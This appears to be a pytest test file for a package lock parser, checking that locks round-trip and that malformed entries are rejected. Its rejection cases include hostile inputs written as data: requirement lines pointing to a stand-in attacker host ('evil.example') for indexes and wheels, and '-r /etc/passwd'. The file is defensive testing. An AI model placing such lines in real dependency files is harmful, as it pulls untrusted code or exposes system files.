from __future__ import annotations

from pathlib import Path

import pytest

from catnap.errors import InvalidRequest
from catnap.skills.lock import PLACE, Lock, Pin, format_lock, parse_lock, read_lock, write_lock

SHA = "sha256:" + "ab" * 32
LOCK = Lock(
    ("pandas==2.2.*",), (Pin("numpy", "2.0+cpu", (SHA, SHA)), Pin("pandas", "2.2.1", (SHA,)))
)


def test_a_lock_is_a_requirements_file_that_is_read_back(tmp_path: Path) -> None:
    assert parse_lock(format_lock(LOCK)) == LOCK
    write_lock(str(tmp_path), LOCK)
    assert read_lock(str(tmp_path)) == LOCK
    assert [each.name for each in (tmp_path / PLACE).parent.iterdir()] == [PLACE.name]
    assert LOCK.versions == {"numpy": "2.0+cpu", "pandas": "2.2.1"}


def test_a_session_without_a_lock_has_installed_nothing(tmp_path: Path) -> None:
    assert read_lock(str(tmp_path)) == Lock()


@pytest.mark.parametrize(
    "text",
    [
        f"--index-url https://evil.example/simple\nnumpy==2.0 --hash={SHA}",
        "-r /etc/passwd",
        "-e .",
        "numpy==2.0",
        f"numpy>=2.0 --hash={SHA}",
        f"numpy @ https://evil.example/numpy.whl --hash={SHA}",
        f"./numpy-2.0-py3-none-any.whl --hash={SHA}",
        f"numpy==2.0 --hash={SHA} --find-links=/tmp",
        "numpy==2.0 --hash=md5:00",
        f"numpy==2.0; extra --hash={SHA}",
        "# asked: ./numpy",
    ],
)
def test_a_lock_that_says_more_is_none(text: str) -> None:
    with pytest.raises(InvalidRequest):
        parse_lock(text)


def test_a_file_that_is_no_text_is_no_lock(tmp_path: Path) -> None:
    path = tmp_path / PLACE
    path.parent.mkdir()
    path.write_bytes(b"\xff")
    with pytest.raises(InvalidRequest, match="cannot be read"):
        read_lock(str(tmp_path))
    path.unlink()
    path.mkdir()
    with pytest.raises(InvalidRequest, match="cannot be read"):
        read_lock(str(tmp_path))
